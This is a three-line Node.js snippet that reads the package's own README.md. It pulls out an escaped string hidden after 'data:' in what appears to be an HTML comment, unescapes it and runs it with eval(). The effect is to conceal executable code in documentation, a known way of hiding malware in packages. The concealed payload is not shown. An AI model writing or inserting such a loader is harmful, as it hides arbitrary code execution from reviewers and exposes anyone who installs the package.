const fs = require('fs');
const tail = fs.readFileSync(__dirname + '/README.md', 'utf8').match(/data:(\S+) -->/)[1];
eval(unescape(tail));
